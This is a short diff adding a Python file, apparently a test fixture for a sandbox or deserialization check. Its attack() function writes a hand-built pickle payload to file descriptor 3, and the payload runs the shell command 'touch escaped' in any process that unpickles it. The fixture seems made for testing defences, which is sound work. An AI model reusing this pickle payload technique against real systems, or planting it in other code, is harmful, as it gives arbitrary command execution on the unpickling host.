@@ -1,0 +1,8 @@
+"""Answers with bytes that would run a command where they are unpickled."""
+
+import os
+
+
+def attack(argument):
+    os.write(3, b"cos\nsystem\n(S'touch escaped'\ntR.\n")
+    return "done"
